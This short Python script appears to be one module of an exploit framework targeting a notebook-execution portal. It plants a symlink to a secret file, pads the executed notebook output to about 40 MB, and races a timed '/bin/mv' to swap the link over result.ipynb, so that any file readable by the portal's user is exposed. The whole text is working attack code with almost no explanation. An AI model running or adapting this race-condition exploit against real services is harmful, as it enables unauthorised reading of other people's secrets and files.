"""Renames a link over the executed notebook, in the same way as over the page.

gains: any file that the portal's user can read, as a result
needs: chain
limits: timeout_s=6
repeat: 50
ends: any
"""

os.symlink(V["secret"], "link")
forge()
with open("../result.ipynb", "wb") as file:
    file.write(b"{}" + b" " * 40_000_000)
chain(60 + 8 * ROUND, "/bin/mv", "-T", "link", "../result.ipynb")
tell(b"done")
time.sleep(0.3)
